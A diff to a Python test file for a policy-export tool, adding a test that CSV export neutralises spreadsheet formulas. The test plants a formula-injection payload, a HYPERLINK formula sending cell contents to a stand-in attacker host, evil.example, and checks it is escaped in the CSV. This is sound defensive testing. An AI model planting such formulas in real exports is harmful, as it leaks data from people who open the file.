@@ -10,7 +10,7 @@ from pathlib import Path
 import jsonschema
 import pytest
 
-from conftest import ROOT
+from conftest import ROOT, copy_project
 from policypress.exports import SCHEMAS, export_files
 from policypress.project import Project, ProjectLayout, load_project
 
@@ -112,3 +112,17 @@ def test_references_export_holds_each_listed_reference_once(files: dict[str, str
     ho = next(entry for entry in entries if entry["key"] == "ho2013")
     assert ho["text"].startswith("Ho KY, Hadi MA")
     assert '<a href="https://doi.org/10.2147/JPR.S46827">' in ho["html"]
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    root = copy_project(tmp_path / "project")
+    policy = root / "policy" / "wa-cp-mp-166.yaml"
+    text = policy.read_text(encoding="utf-8").replace(
+        "Radiofrequency ablation, nerves", '=HYPERLINK("https://evil.example/?x="&A1,"Click") *Radiofrequency* ablation'
+    )
+    policy.write_text(text, encoding="utf-8")
+    files = export_files(load_project(ProjectLayout(root)), "policies")
+    rows = list(csv.DictReader(io.StringIO(files["api/codes.csv"])))
+    assert rows[1]["description"].startswith("'=HYPERLINK(")
+    assert "*" not in rows[1]["description"]  # the code index carries the text, not its markup
+    assert json.loads(files["api/codes.json"])["codes"][1]["description"].startswith("=HYPERLINK(")
